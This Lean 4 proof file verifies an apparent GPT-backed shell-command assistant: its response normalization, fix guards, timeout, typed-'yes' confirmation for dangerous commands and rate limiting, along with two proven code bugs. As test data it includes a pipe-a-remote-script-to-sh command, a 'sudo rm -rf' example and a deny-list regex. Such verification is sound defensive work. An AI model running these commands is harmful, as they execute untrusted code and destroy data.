theorem normalize_idempotent_when_markers_absent_witness :
    normalize_response (normalize_response "ls".toList)
      = normalize_response "ls".toList :=
  normalize_idempotent_when_markers_absent "ls".toList (by decide) (by decide)

/-- C6 counterexample: the nonempty backend response "```" normalizes to the
empty string, and `_generate_command` returns that empty string as a
successful value — not `None` and not an error. -/
theorem generate_returns_empty_command :
    generate_from_response "```".toList = some [] ∧
    "```".toList ≠ ([] : List Char) := by decide

/-- C6 amended: the empty-normalization guard lives in the orchestrator, not
in `_generate_command`: `handle_gpt_command` rejects a falsy command, so a
command it accepts is nonempty and equals the normalization of the backend
response. -/
theorem accepted_command_nonempty (respText c : List Char)
    (h : accepted_command respText = some c) :
    c ≠ [] ∧ c = normalize_response respText := by
  unfold accepted_command generate_from_response at h
  by_cases he : respText.isEmpty = true
  · rw [if_pos he] at h
    simp at h
  · rw [if_neg he] at h
    simp only at h
    by_cases hc : (normalize_response respText).isEmpty = true
    · rw [if_pos hc] at h
      simp at h
    · rw [if_neg hc] at h
      simp only [Option.some.injEq] at h
      subst h
      refine ⟨?_, rfl⟩
      intro hnil
      rw [hnil] at hc
      simp at hc

/-- Witness for the amended C6 theorem at the backend response "ls". -/
theorem accepted_command_nonempty_witness :
    "ls".toList ≠ ([] : List Char) ∧
    "ls".toList = normalize_response "ls".toList :=
  accepted_command_nonempty "ls".toList "ls".toList (by decide)

/-- C7 counterexample: with the backend proposing exactly the original
command "ls", `_attempt_fix_command` returns `some "ls"` — the identical
command — rather than `None`; the function performs no comparison with the
original. -/
theorem attempt_fix_returns_identical :
    (attempt_fix_command ⟨60, 1⟩ ⟨[], 0⟩ 0 true (some "ls".toList)).2
      = some "ls".toList := by decide

/-- C7 amended: the identical-command guard lives in the orchestrator:
`handle_gpt_command` discards a proposed fix that is empty or textually
identical to the original, so a fix it offers for execution is nonempty and
differs from the original command. -/
theorem offered_fix_never_identical (original : List Char) (cfg : RLConfig)
    (st : AppState) (now : ℚ) (ready : Bool) (backend : Option (List Char))
    (f : List Char)
    (h : offered_fix original
        (attempt_fix_command cfg st now ready backend).2 = some f) :
    f ≠ original ∧ f ≠ [] := by
  cases hfix : (attempt_fix_command cfg st now ready backend).2 with
  | none => rw [hfix] at h; simp [offered_fix] at h
  | some g =>
      rw [hfix] at h
      simp only [offered_fix] at h
      by_cases hg : (g.isEmpty || decide (g = original)) = true
      · rw [if_pos hg] at h
        simp at h
      · rw [if_neg hg] at h
        simp only [Option.some.injEq] at h
        subst h
        simp only [Bool.or_eq_true, decide_eq_true_eq, not_or] at hg
        refine ⟨hg.2, ?_⟩
        intro hnil
        apply hg.1
        rw [hnil]
        rfl

/-- Witness for the amended C7 theorem: original "ls", proposed fix
"ls -la". -/
theorem offered_fix_never_identical_witness :
    "ls -la".toList ≠ "ls".toList ∧ "ls -la".toList ≠ ([] : List Char) :=
  offered_fix_never_identical "ls".toList ⟨60, 1⟩ ⟨[], 0⟩ 0 true
    (some "ls -la".toList) "ls -la".toList (by decide)

/-- C8: a run exceeding the 30-second timeout yields exactly
`(False, "", "Command timed out after 30 seconds")`; `_execute_command`
consumes a single process outcome, so it never retries on its own. -/
theorem timeout_result_exact (d : ℚ) (rc : ℤ) (out err : List Char)
    (h : EXEC_TIMEOUT < d) :
    execute_command (.runs d rc out err)
      = { success := false, stdout := [],
          stderr := "Command timed out after 30 seconds".toList } := by
  simp only [execute_command]
  rw [if_pos h]

/-- Witness for C8 at a 60-second run. -/
theorem timeout_result_exact_witness :
    EXEC_TIMEOUT < (60 : ℚ) ∧
    execute_command (.runs 60 0 [] [])
      = { success := false, stdout := [],
          stderr := "Command timed out after 30 seconds".toList } :=
  ⟨by decide, timeout_result_exact 60 0 [] [] (by decide)⟩

/-- C9: for a command classified dangerous, execution happens exactly when
the user types the word `yes` (compared case-insensitively, the only
transformation the code applies to this answer), for every policy
configuration; any other answer terminates the run as cancelled, so the
command is never executed. -/
theorem dangerous_requires_typed_yes (pol : Policy)
    (command answer : List Char)
    (hd : is_dangerous_command command = true) :
    (confirmation_gate pol command answer = .executed ↔
      pyLower answer = "yes".toList) ∧
    (pyLower answer ≠ "yes".toList →
      confirmation_gate pol command answer = .cancelled) := by
  unfold confirmation_gate
  simp only [hd, if_true]
  by_cases hy : pyLower answer = "yes".toList
  · simp [hy]
  · simp [hy]

/-- Witness for C9: `sudo rm -rf /tmp/x` is dangerous (it contains the entry
`sudo rm`); the user answers "no" under a permissive policy. -/
theorem dangerous_requires_typed_yes_witness :
    ((confirmation_gate ⟨true, true⟩ "sudo rm -rf /tmp/x".toList "no".toList
        = .executed ↔ pyLower "no".toList = "yes".toList) ∧
     (pyLower "no".toList ≠ "yes".toList →
        confirmation_gate ⟨true, true⟩ "sudo rm -rf /tmp/x".toList
          "no".toList = .cancelled)) :=
  dangerous_requires_typed_yes ⟨true, true⟩ "sudo rm -rf /tmp/x".toList
    "no".toList (by decide)

/-- C10: on an admitted attempt, both `_generate_command` and
`_attempt_fix_command` append the rate-limiter record *before* the backend
call and never roll it back — the final state carries the new timestamp for
every backend outcome — and when the backend raises (`backend = none`) the
attempt returns `None` with the usage counter untouched, while the recorded
call still counts against the sliding window. -/
theorem rate_slot_consumed_before_backend (cfg : RLConfig) (st : AppState)
    (now : ℚ) (backend : Option (List Char))
    (hadm : (canMakeCall cfg st.rlCalls now).2 = true) :
    ((generate_command cfg st now backend).1.rlCalls
        = recordCall (canMakeCall cfg st.rlCalls now).1 now ∧
      (attempt_fix_command cfg st now true backend).1.rlCalls
        = recordCall (canMakeCall cfg st.rlCalls now).1 now) ∧
    (backend = none →
      (generate_command cfg st now backend).2 = none ∧
      (generate_command cfg st now backend).1.usageTotal = st.usageTotal ∧
      (attempt_fix_command cfg st now true backend).2 = none ∧
      (attempt_fix_command cfg st now true backend).1.usageTotal
        = st.usageTotal) := by
  unfold generate_command attempt_fix_command
  simp only [hadm]
  cases backend with
  | none => simp
  | some t => by_cases ht : t.isEmpty = true <;> simp [ht]

/-- Witness for C10 on a fresh state (no records, usage 0) with the backend
raising. -/
theorem rate_slot_consumed_before_backend_witness :
    (((generate_command ⟨60, 1⟩ (AppState.mk [] 0) 0 none).1.rlCalls
        = recordCall (canMakeCall ⟨60, 1⟩ (AppState.mk [] 0).rlCalls 0).1 0 ∧
      (attempt_fix_command ⟨60, 1⟩ (AppState.mk [] 0) 0 true none).1.rlCalls
        = recordCall (canMakeCall ⟨60, 1⟩ (AppState.mk [] 0).rlCalls 0).1 0) ∧
     ((none : Option (List Char)) = none →
      (generate_command ⟨60, 1⟩ (AppState.mk [] 0) 0 none).2 = none ∧
      (generate_command ⟨60, 1⟩ (AppState.mk [] 0) 0 none).1.usageTotal
          = (AppState.mk [] 0).usageTotal ∧
      (attempt_fix_command ⟨60, 1⟩ (AppState.mk [] 0) 0 true none).2 = none ∧
      (attempt_fix_command ⟨60, 1⟩ (AppState.mk [] 0) 0 true
          none).1.usageTotal = (AppState.mk [] 0).usageTotal)) :=
  rate_slot_consumed_before_backend ⟨60, 1⟩ (AppState.mk [] 0) 0 none
    (by decide)

/-- C1 (code bug): the command `curl http://example.com/install.sh | sh`
pipes a remote script into a shell interpreter and is matched by the
wildcard entry `curl.*|.*sh` read as a case-insensitive regex — the
classification the spec describes (`spec_is_dangerous`) — yet
`_is_dangerous_command` tests every entry only as a literal substring, so
the code classifies it as not dangerous. -/
theorem dangerous_regex_entries_inert :
    is_dangerous_command "curl http://example.com/install.sh | sh".toList
      = false ∧
    spec_is_dangerous "curl http://example.com/install.sh | sh".toList
      = true := by decide

/-- C2 (code bug): `_execute_command` passes the configured shell string as
the boolean `shell=` argument of `subprocess.run`, so a configured "zsh" is
merely truthy: the child runs under `/bin/sh`, exactly as with no configured
shell, and the configured interpreter is never used. -/
theorem preferred_shell_not_used :
    spawned_interpreter (shell_arg (some "zsh".toList))
      = some "/bin/sh".toList ∧
    spawned_interpreter (shell_arg (some "zsh".toList))
      = spawned_interpreter (shell_arg none) ∧
    "/bin/sh".toList ≠ "zsh".toList := by decide
